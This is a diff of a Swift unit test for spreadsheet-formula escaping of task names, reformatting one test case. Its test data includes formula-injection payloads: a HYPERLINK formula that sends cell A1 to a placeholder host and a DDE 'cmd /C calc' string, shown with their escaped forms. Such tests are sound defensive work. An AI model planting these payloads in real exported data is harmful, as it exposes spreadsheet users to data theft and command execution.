@@ -44,8 +44,10 @@ struct TaskNameEscapingTests {
   }
 
   @Test(arguments: [
-    (#"=HYPERLINK("http://x.example/?"&A1,"Click")"#,
-     #""'=HYPERLINK(""http://x.example/?""&A1,""Click"")""#),
+    (
+      #"=HYPERLINK("http://x.example/?"&A1,"Click")"#,
+      #""'=HYPERLINK(""http://x.example/?""&A1,""Click"")""#
+    ),
     ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
     ("-2+3", "'-2+3"),
     ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
